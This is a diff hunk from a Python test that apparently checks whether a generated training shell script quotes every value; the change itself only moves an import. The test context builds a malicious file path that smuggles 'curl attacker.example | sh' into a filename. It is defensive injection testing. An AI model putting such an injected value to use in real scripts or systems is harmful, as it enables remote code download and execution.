@@ -102,7 +102,7 @@ def test_train_sh_quotes_every_value(tmp_path):
     import shlex
 
     from tunepilot.agent.goal import parse_goal
-    from tunepilot.agent.toolbox import _script
+    from tunepilot.agent.planfiles import train_script as _script
     from tunepilot.config import TrainingConfig
 
     evil = tmp_path / "data; curl attacker.example | sh #"
